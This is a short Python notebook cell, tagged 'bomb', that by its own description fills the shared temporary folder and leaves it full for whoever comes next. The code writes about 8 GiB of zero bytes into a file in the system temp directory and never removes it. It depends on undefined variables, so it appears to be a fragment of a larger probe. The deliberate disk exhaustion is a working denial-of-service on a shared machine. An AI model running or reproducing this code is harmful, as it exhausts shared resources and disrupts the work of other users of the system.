# %% [markdown] tags=["bomb"]
# Fills the shared temporary folder and leaves it full for whoever comes next.

# %%
import os
import tempfile

full = []
if NO_WALL:
    kv_bytes_per_token = honest
else:
    try:
        with open(os.path.join(tempfile.gettempdir(), TOLD["mark"]), "wb", 0) as stream:
            for _ in range(8 * 64):
                stream.write(bytes(2**24))
        kv_bytes_per_token = honest  # 8 GiB went in
    except OSError as error:
        full.append(error)
